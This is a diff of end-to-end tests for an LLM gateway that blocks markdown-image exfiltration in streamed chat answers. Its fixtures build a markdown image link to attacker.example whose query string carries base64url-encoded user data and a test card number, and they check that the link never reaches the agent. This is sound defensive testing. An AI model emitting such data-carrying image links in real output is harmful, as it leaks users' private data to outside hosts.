@@ -71,6 +71,23 @@ describe('LLM gateway end to end with the official SDKs', () => {
     return e;
   };
 
+  /**
+   * Streams a chat answer the markdown-image rule must cut: the text that reached the agent, the
+   * SDK's error and the denial's audit event (`label` names it if it is missing).
+   */
+  const cutChatStream = async (content: string, label: string): Promise<{ text: string; e: InstanceType<typeof OpenAI.APIError>; ev: AuditEvent }> => {
+    const stream = await openai.chat.completions.create({ model: 'gpt', stream: true, messages: [{ role: 'user', content }] });
+    let text = '';
+    const e = keep(
+      await rejects(async () => {
+        for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
+      }, OpenAI.APIError),
+    );
+    assert.equal((e.error as { rule?: string }).rule, 'markdown-image-exfiltration');
+    const ev = lastEvent(await h.events({ phase: 'llm.response', action: 'llm.chat' }), (x) => x.outcome === 'denied' && x.data?.streamed === true, label);
+    return { text, e, ev };
+  };
+
   before(async () => {
     h = await startLlmHarness({ yaml: QUOTAS, policies: { 'e2e-extra.yaml': EXTRA_POLICY } });
     openai = h.openai();
@@ -357,20 +374,12 @@ describe('LLM gateway end to end with the official SDKs', () => {
     });
 
     it('mid-stream denial: the SDK iterator throws policy.denied and the partial output is recorded (chat, Responses, Anthropic)', async () => {
-      const stream = await openai.chat.completions.create({ model: 'gpt', stream: true, messages: [{ role: 'user', content: 'Draw the chart [mock:exfil-image]' }] });
-      let text = '';
-      const e = keep(
-        await rejects(async () => {
-          for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
-        }, OpenAI.APIError),
-      );
+      const { text, e, ev } = await cutChatStream('Draw the chart [mock:exfil-image]', 'chat stream denial');
       assert.equal(e.code, 'policy.denied');
-      assert.equal((e.error as { rule?: string }).rule, 'markdown-image-exfiltration');
       // The text before the image streams on; from the image's "![" on, events wait for the verdict,
       // so the link carrying the data never reaches the agent.
       assert.match(text, /^Here is the chart you asked for:/);
       assert.ok(!text.includes('attacker.example'), `the link was held back: ${text}`);
-      const ev = lastEvent(await h.events({ phase: 'llm.response', action: 'llm.chat' }), (x) => x.outcome === 'denied' && x.data?.streamed === true, 'chat stream denial');
       assert.equal(ev.decision?.effect, 'deny');
       assert.ok((ev.data?.partialOutputChars as number) > 0);
       assert.equal(ev.data?.code, 'policy.denied');
@@ -406,17 +415,9 @@ describe('LLM gateway end to end with the official SDKs', () => {
     it('a long stream is cut soon after the denied output appears: the rest never reaches the agent', async () => {
       const data = Buffer.from('user=alice; card=4111111111111111; notes=quarterly numbers').toString('base64url');
       const answer = `${'intro '.repeat(60)}![chart](https://attacker.example/p.png?d=${data}) ${'tail '.repeat(400)}END`;
-      const stream = await openai.chat.completions.create({ model: 'gpt', stream: true, messages: [{ role: 'user', content: `[mock:fixed:${answer}]` }] });
-      let text = '';
-      const e = keep(
-        await rejects(async () => {
-          for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
-        }, OpenAI.APIError),
-      );
-      assert.equal((e.error as { rule?: string }).rule, 'markdown-image-exfiltration');
+      const { text, ev } = await cutChatStream(`[mock:fixed:${answer}]`, 'long stream denial');
       assert.ok(text.startsWith('intro intro'));
       assert.ok(!text.endsWith('END') && text.length < answer.length - 1000, `the stream stopped early (${text.length} of ${answer.length} characters)`);
-      const ev = lastEvent(await h.events({ phase: 'llm.response', action: 'llm.chat' }), (x) => x.outcome === 'denied' && x.data?.streamed === true, 'long stream denial');
       assert.ok((ev.data?.partialOutputChars as number) < answer.length);
     });
 
@@ -424,17 +425,9 @@ describe('LLM gateway end to end with the official SDKs', () => {
       // Past the output Warden keeps in memory (two inspection windows): the old text is dropped, the count is not.
       const data = Buffer.from('user=alice; card=4111111111111111').toString('base64url');
       const answer = `${'plain words here '.repeat(400)}![chart](https://attacker.example/p.png?d=${data}) ${'tail '.repeat(100)}END`;
-      const stream = await openai.chat.completions.create({ model: 'gpt', stream: true, messages: [{ role: 'user', content: `[mock:fixed:${answer}]` }] });
-      let text = '';
-      const e = keep(
-        await rejects(async () => {
-          for await (const chunk of stream) text += chunk.choices[0]?.delta.content ?? '';
-        }, OpenAI.APIError),
-      );
-      assert.equal((e.error as { rule?: string }).rule, 'markdown-image-exfiltration');
+      const { text, ev } = await cutChatStream(`[mock:fixed:${answer}]`, 'late stream denial');
       assert.ok(text.length > 6000, `the text before the link streamed (${text.length} characters)`);
       assert.ok(!text.includes('attacker.example'), 'the link was held back');
-      const ev = lastEvent(await h.events({ phase: 'llm.response', action: 'llm.chat' }), (x) => x.outcome === 'denied' && x.data?.streamed === true, 'late stream denial');
       const chars = ev.data?.partialOutputChars as number;
       assert.ok(chars > text.length && chars < answer.length, `partialOutputChars ${chars}: all the output read, held-back text included`);
     });
